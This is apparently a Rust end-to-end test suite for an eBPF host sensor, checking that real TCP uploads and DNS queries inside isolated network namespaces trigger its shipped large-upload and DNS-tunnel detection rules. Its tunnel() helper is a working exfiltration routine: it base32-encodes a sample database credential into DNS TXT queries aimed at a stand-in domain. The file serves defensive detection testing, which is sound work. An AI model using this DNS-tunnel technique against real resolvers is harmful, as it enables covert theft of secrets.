//! Data leaving the node, end to end on the real kernel (root only): flow
//! byte counts of real TCP uploads, DNS questions of real resolvers and of
//! a tunnel-like client, and the shipped rules (`rules/`) on what comes out.
//!
//! Network rule: uploads go over a veth pair into a network namespace this
//! test creates (`common/netns.rs`), to a sink running inside it. DNS
//! questions are only sent from processes in a fresh network namespace
//! (`unshare`), to loopback there: nothing can leave.
//!
//! Run: `cargo test -p sensor --features e2e --test exfil -- --test-threads=1`

#[path = "common/netns.rs"]
mod netns;

use std::{
    io::{Read, Write},
    net::{SocketAddrV4, TcpListener, TcpStream, UdpSocket},
    path::{Path, PathBuf},
    process::{Command, Stdio},
    sync::{Arc, Mutex},
    time::{Duration, Instant},
};

use mamori::{
    detect::rule_files,
    kernel::{FlowCounting, Options, Sensor, DEFAULT_KINDS},
    pipeline::Pipeline,
    process::{Clock, ProcTable, Users},
};
use mamori_common::EventKind;
use mamori_rules::{alert::Alert, event::Event, event::EvtType, RuleMatching};

const CHILD_ENV: &str = "MAMORI_E2E_EXFIL_CHILD";
const SINK_PORT: u16 = 9015;
const CHUNK: usize = 64 * 1024;

/// Entry point of the re-executed child. A no-op when run as a normal test.
#[test]
fn child_main() {
    let Ok(spec) = std::env::var(CHILD_ENV) else {
        return;
    };
    let parts: Vec<&str> = spec.split('|').collect();
    match parts[0] {
        "sink" => sink(),
        "upload" => upload(parts[1].parse().unwrap(), parts[2].parse().unwrap()),
        "tunnel" => tunnel(parts[1].parse().unwrap()),
        other => panic!("unknown child mode {other}"),
    }
}

/// Inside the test's namespace: accept one connection, read it to its end,
/// answer with the byte count (8 bytes). Bounded by socket timeouts.
fn sink() {
    let l = TcpListener::bind(("0.0.0.0", SINK_PORT)).unwrap();
    println!("listening");
    let (mut c, _) = l.accept().unwrap();
    c.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let mut buf = vec![0u8; CHUNK];
    let mut total = 0u64;
    loop {
        let n = c.read(&mut buf).unwrap();
        if n == 0 {
            break;
        }
        total += n as u64;
    }
    c.write_all(&total.to_ne_bytes()).unwrap();
}

/// Send `bytes` to `to` in 64 KiB writes, then check the sink got them all.
fn upload(to: SocketAddrV4, bytes: u64) {
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut s = loop {
        match TcpStream::connect_timeout(&to.into(), Duration::from_secs(1)) {
            Ok(s) => break s,
            Err(e) if Instant::now() < deadline => {
                eprintln!("connect {to}: {e}; retrying");
                std::thread::sleep(Duration::from_millis(100));
            }
            Err(e) => panic!("connect {to}: {e}"),
        }
    };
    s.set_write_timeout(Some(Duration::from_secs(30))).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    let chunk = vec![0x5au8; CHUNK];
    let mut left = bytes;
    while left > 0 {
        let n = left.min(CHUNK as u64) as usize;
        s.write_all(&chunk[..n]).unwrap();
        left -= n as u64;
    }
    s.shutdown(std::net::Shutdown::Write).unwrap();
    let mut got = [0u8; 8];
    s.read_exact(&mut got).unwrap();
    assert_eq!(u64::from_ne_bytes(got), bytes, "the sink got every byte");
}

/// A query for `name` of type `qtype`, as a resolver would send it.
fn query(id: u16, name: &str, qtype: u16) -> Vec<u8> {
    let mut m = id.to_be_bytes().to_vec();
    m.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
    for l in name.split('.') {
        m.push(l.len() as u8);
        m.extend_from_slice(l.as_bytes());
    }
    m.push(0);
    m.extend_from_slice(&qtype.to_be_bytes());
    m.extend_from_slice(&1u16.to_be_bytes());
    m
}

/// Lowercase base32 (RFC 4648 alphabet, no padding), as DNS tunnels encode.
fn base32(data: &[u8]) -> String {
    const A: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
    let mut out = String::new();
    let (mut acc, mut bits) = (0u32, 0);
    for &b in data {
        acc = acc << 8 | b as u32;
        bits += 8;
        while bits >= 5 {
            bits -= 5;
            out.push(A[(acc >> bits) as usize & 31] as char);
        }
    }
    if bits > 0 {
        out.push(A[(acc << (5 - bits)) as usize & 31] as char);
    }
    out
}

/// In a fresh network namespace: a "resolver" on 127.0.0.1:53 and a client
/// carrying a secret out in `n` TXT questions (sendto), plus one through
/// sendmsg; every question must reach the resolver.
fn tunnel(n: usize) {
    // SAFETY: unshare of this thread's network namespace; no pointers.
    assert_eq!(unsafe { libc::unshare(libc::CLONE_NEWNET) }, 0, "unshare");
    let st = Command::new("ip")
        .args(["link", "set", "lo", "up"])
        .status()
        .unwrap();
    assert!(st.success());
    let resolver = UdpSocket::bind("127.0.0.1:53").unwrap();
    resolver
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    let client = UdpSocket::bind("127.0.0.1:0").unwrap();
    let secret =
        b"postgres://admin:S3cr3t-passw0rd@db.internal:5432/customers?sslmode=disable&rows=all";
    for i in 0..n {
        let piece = &secret[(i * 7) % (secret.len() - 30)..][..30];
        let name = format!("{}.{i}.t.exfil-test.example", base32(piece));
        client
            .send_to(&query(i as u16, &name, 16), "127.0.0.1:53")
            .unwrap();
    }
    // One more through sendmsg (a connected socket: no address in msghdr).
    client.connect("127.0.0.1:53").unwrap();
    let q = query(999, "viasendmsg.exfil-test.example", 1);
    let iov = libc::iovec {
        iov_base: q.as_ptr() as *mut libc::c_void,
        iov_len: q.len(),
    };
    // SAFETY: a zeroed msghdr is valid; it points at a live iovec.
    let mut msg: libc::msghdr = unsafe { std::mem::zeroed() };
    msg.msg_iov = &iov as *const libc::iovec as *mut libc::iovec;
    msg.msg_iovlen = 1;
    use std::os::fd::AsRawFd;
    // SAFETY: a valid socket fd and msghdr.
    let sent = unsafe { libc::sendmsg(client.as_raw_fd(), &msg, 0) };
    assert_eq!(sent, q.len() as isize);
    let mut buf = [0u8; 512];
    for _ in 0..=n {
        resolver.recv_from(&mut buf).expect("the resolver got it");
    }
}

/// Run `scenario` (on a blocking thread) while capturing with `opts`; the
/// events, in ring order, once it returned and the last ones arrived.
fn capture(opts: Options, scenario: impl FnOnce() + Send + 'static) -> Vec<Event> {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    rt.block_on(async move {
        let sensor = Sensor::load(&opts).expect("load the eBPF programs (are you root?)");
        eprintln!("attached: {:?}", sensor.attached);
        let table = ProcTable::seeded(
            Path::new("/proc"),
            Clock::now(),
            Users::load(Path::new("/etc/passwd")),
        );
        let done = tokio::task::spawn_blocking(scenario);
        let shutdown = async move {
            done.await.expect("scenario");
            // Let the last events (closes finish in softirq) arrive.
            tokio::time::sleep(Duration::from_millis(1500)).await;
        };
        let events = Arc::new(Mutex::new(Vec::new()));
        let sink = events.clone();
        let mut keep = move |ev: &Event| {
            sink.lock().unwrap().push(ev.clone());
            Ok(())
        };
        let stats = Pipeline::new(sensor, table, None)
            .unwrap()
            .run(&mut keep, shutdown)
            .await
            .unwrap();
        assert_eq!(stats.dropped.total(), 0, "no losses: {:?}", stats.dropped);
        let v = events.lock().unwrap().clone();
        v
    })
}

fn options(counting: FlowCounting) -> Options {
    let mut kinds = DEFAULT_KINDS.to_vec();
    kinds.extend([EventKind::Flow, EventKind::Dns]);
    Options {
        kinds,
        flow_counting: counting,
        ..Options::default()
    }
}

fn child(spec: &str) -> Command {
    let mut c = Command::new(std::env::current_exe().unwrap());
    c.args(["--exact", "child_main", "--nocapture", "--test-threads=1"])
        .env(CHILD_ENV, spec);
    c
}

/// The shipped rules, with only loopback internal (the test namespace's
/// 10.213.x addresses then count as external destinations).
fn alerts(events: &[Event]) -> Vec<Alert> {
    let dir = std::env::temp_dir().join(format!("mamori-exfil-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let over = dir.join("zz_test_networks.yaml");
    std::fs::write(
        &over,
        "- list: mamori_internal_networks\n  items: [\"127.0.0.0/8\", \"::1/128\"]\n",
    )
    .unwrap();
    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
    let paths: Vec<PathBuf> = vec![rules, over];
    let (engine, _) = rule_files::load(&paths, &rule_files::options(RuleMatching::All))
        .expect("the shipped rules load");
    let _ = std::fs::remove_dir_all(&dir);
    events.iter().flat_map(|e| engine.evaluate(e)).collect()
}

/// Upload `bytes` to the sink in a test namespace; the uploader's pid and
/// the events.
fn run_upload(tag: u8, bytes: u64, counting: FlowCounting) -> (u32, SocketAddrV4, Vec<Event>) {
    let net = netns::TestNet::create(tag);
    let to = SocketAddrV4::new(net.peers[0], SINK_PORT);
    let ns = net.name.clone();
    let pid = Arc::new(Mutex::new(0u32));
    let slot = pid.clone();
    let events = capture(options(counting), move || {
        let exe = std::env::current_exe().unwrap();
        let mut sink = Command::new("ip")
            .args(["netns", "exec", &ns])
            .arg(exe)
            .args(["--exact", "child_main", "--nocapture", "--test-threads=1"])
            .env(CHILD_ENV, "sink")
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        // Wait for "listening" (bounded by the sink's own timeouts).
        let mut out = sink.stdout.take().unwrap();
        let mut seen = Vec::new();
        let mut b = [0u8; 256];
        while !String::from_utf8_lossy(&seen).contains("listening") {
            let n = out.read(&mut b).unwrap();
            assert!(n > 0, "the sink exited before listening");
            seen.extend_from_slice(&b[..n]);
        }
        let mut up = child(&format!("upload|{to}|{bytes}")).spawn().unwrap();
        *slot.lock().unwrap() = up.id();
        assert!(up.wait().unwrap().success(), "upload child failed");
        assert!(sink.wait().unwrap().success(), "sink failed");
    });
    drop(net);
    let pid = *pid.lock().unwrap();
    (pid, to, events)
}

/// The uploader's flow reports to the sink.
fn flows_to(events: &[Event], pid: u32, to: SocketAddrV4) -> Vec<&Event> {
    events
        .iter()
        .filter(|e| e.evt_type == EvtType::Flow && e.proc.pid == pid)
        .filter(|e| {
            e.fd.as_ref()
                .is_some_and(|f| f.rip == Some((*to.ip()).into()) && f.rport == Some(to.port()))
        })
        .collect()
}

fn fired<'a>(alerts: &'a [Alert], rule: &str, pid: u32) -> Vec<&'a Alert> {
    alerts
        .iter()
        .filter(|a| a.rule == rule && a.output.contains(&format!("pid={pid} ")))
        .collect()
}

const UPLOAD_RULE: &str = "Large Upload to External Destination";

#[test]
fn a_50_mb_upload_is_one_flow_within_1_percent_and_fires_the_upload_rule() {
    let sent = 50 * 1024 * 1024;
    let (pid, to, events) = run_upload(15, sent, FlowCounting::Auto);
    let flows = flows_to(&events, pid, to);
    assert!(!flows.is_empty(), "no flow of the uploader {pid}");
    let out: u64 = flows
        .iter()
        .map(|e| e.flow.as_ref().unwrap().bytes_out)
        .sum();
    let inb: u64 = flows
        .iter()
        .map(|e| e.flow.as_ref().unwrap().bytes_in)
        .sum();
    let diff = out.abs_diff(sent) as f64 / sent as f64;
    assert!(diff <= 0.01, "bytes_out {out} vs {sent} sent");
    assert_eq!(inb, 8, "the sink's 8-byte answer");
    let last = flows.last().unwrap();
    assert_eq!(last.flow.as_ref().unwrap().state.as_str(), "closed");
    assert_eq!(last.fd.as_ref().unwrap().l4proto.as_deref(), Some("tcp"));
    let alerts = alerts(&events);
    assert_eq!(fired(&alerts, UPLOAD_RULE, pid).len(), 1, "{alerts:#?}");
}

#[test]
fn a_1_mb_upload_is_counted_but_does_not_fire() {
    let sent = 1024 * 1024;
    let (pid, to, events) = run_upload(16, sent, FlowCounting::Auto);
    let out: u64 = flows_to(&events, pid, to)
        .iter()
        .map(|e| e.flow.as_ref().unwrap().bytes_out)
        .sum();
    assert!(
        out.abs_diff(sent) * 100 <= sent,
        "bytes_out {out} vs {sent}"
    );
    let alerts = alerts(&events);
    assert!(fired(&alerts, UPLOAD_RULE, pid).is_empty(), "{alerts:#?}");
}

/// The path kernels before 6.3 use (syscall exits) counts the same bytes.
#[test]
fn syscall_exit_counting_gives_the_same_bytes() {
    let sent = 40 * 1024 * 1024 + 123;
    let (pid, to, events) = run_upload(17, sent, FlowCounting::Syscalls);
    let flows = flows_to(&events, pid, to);
    let out: u64 = flows
        .iter()
        .map(|e| e.flow.as_ref().unwrap().bytes_out)
        .sum();
    let inb: u64 = flows
        .iter()
        .map(|e| e.flow.as_ref().unwrap().bytes_in)
        .sum();
    assert_eq!((out, inb), (sent, 8), "fallback counts of {pid}");
    let alerts = alerts(&events);
    assert_eq!(fired(&alerts, UPLOAD_RULE, pid).len(), 1, "{alerts:#?}");
}

/// A connect refused by the namespace (nothing listens on the port) is a
/// `failed` flow: the result of a connect seen at the socket's close.
#[test]
fn a_refused_connect_is_a_failed_flow() {
    let net = netns::TestNet::create(18);
    let to = SocketAddrV4::new(net.peers[1], 9);
    let pid = Arc::new(Mutex::new(0u32));
    let slot = pid.clone();
    let events = capture(options(FlowCounting::Auto), move || {
        let run = netns::connect_from_child("mamori-refused", &[to]);
        assert!(run.all_refused());
        *slot.lock().unwrap() = run.pid;
    });
    drop(net);
    let pid = *pid.lock().unwrap();
    let flows = flows_to(&events, pid, to);
    assert_eq!(flows.len(), 1, "{flows:#?}");
    let f = flows[0].flow.as_ref().unwrap();
    assert_eq!((f.state.as_str(), f.err, f.bytes_out), ("failed", 111, 0));
    assert_eq!(flows[0].res, -111);
}

const TUNNEL_RULE: &str = "DNS Tunnel Suspected (Encoded Subdomains)";

#[test]
fn a_dns_tunnel_fires_and_ordinary_lookups_do_not() {
    let tmp = std::env::temp_dir().join(format!("mamori-dns-{}", std::process::id()));
    std::fs::create_dir_all(&tmp).unwrap();
    let resolv = tmp.join("resolv.conf");
    let nss = tmp.join("nsswitch.conf");
    std::fs::write(
        &resolv,
        "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n",
    )
    .unwrap();
    std::fs::write(&nss, "hosts: files dns\n").unwrap();
    let names = [
        "www.example.com",
        "kubernetes.default.svc.cluster.local",
        "mirror.example.org",
    ];
    let script = format!(
        "ip link set lo up && mount --bind {} /etc/resolv.conf && mount --bind {} /etc/nsswitch.conf && for n in {}; do getent ahosts $n; done; true",
        resolv.display(),
        nss.display(),
        names.join(" ")
    );
    let tunnel_pid = Arc::new(Mutex::new(0u32));
    let slot = tunnel_pid.clone();
    let events = capture(options(FlowCounting::Auto), move || {
        let mut t = child("tunnel|24").spawn().unwrap();
        *slot.lock().unwrap() = t.id();
        assert!(t.wait().unwrap().success(), "tunnel child failed");
        // glibc's resolver (getaddrinfo: A and AAAA in one sendmmsg), in
        // its own network and mount namespaces.
        let st = Command::new("unshare")
            .args(["--net", "--mount", "--propagation", "private", "sh", "-c"])
            .arg(&script)
            .status()
            .unwrap();
        assert!(st.success(), "getent script: {st}");
    });
    let _ = std::fs::remove_dir_all(&tmp);
    let tunnel_pid = *tunnel_pid.lock().unwrap();
    let dns: Vec<&Event> = events
        .iter()
        .filter(|e| e.evt_type == EvtType::Dns)
        .collect();
    let of_tunnel: Vec<_> = dns
        .iter()
        .filter(|e| e.proc.pid == tunnel_pid)
        .filter_map(|e| e.dns.as_deref())
        .collect();
    let by_sendto = of_tunnel.iter().filter(|d| d.syscall == "sendto").count();
    assert_eq!(by_sendto, 24, "{of_tunnel:#?}");
    assert!(of_tunnel.iter().all(|d| d.domain == "exfil-test.example"));
    assert!(of_tunnel
        .iter()
        .any(|d| d.syscall == "sendmsg" && d.qname == "viasendmsg.exfil-test.example"));
    let resolver: Vec<_> = dns
        .iter()
        .filter(|e| e.proc.name == "getent")
        .filter_map(|e| e.dns.as_deref())
        .collect();
    // glibc sends A and AAAA in one sendmmsg; nothing listens on the
    // namespace's port 53, so the first question's ICMP error can fail the
    // second, which glibc then resends with send (sendto): both paths.
    for n in names {
        assert!(
            resolver
                .iter()
                .any(|d| d.qname == n && d.qtype == "A" && d.syscall == "sendmmsg"),
            "{n} A by sendmmsg: {resolver:#?}"
        );
        assert!(
            resolver.iter().any(|d| d.qname == n && d.qtype == "AAAA"),
            "{n} AAAA: {resolver:#?}"
        );
    }
    let server = dns
        .iter()
        .find(|e| e.proc.name == "getent")
        .and_then(|e| e.fd.as_ref())
        .and_then(|f| f.rip);
    assert_eq!(server, Some("127.0.0.1".parse().unwrap()));
    let alerts = alerts(&events);
    assert_eq!(
        fired(&alerts, TUNNEL_RULE, tunnel_pid).len(),
        1,
        "{alerts:#?}"
    );
    let on_getent: Vec<_> = alerts
        .iter()
        .filter(|a| a.rule.starts_with("DNS") && a.output.contains("cmd=getent"))
        .collect();
    assert!(on_getent.is_empty(), "{on_getent:#?}");
}
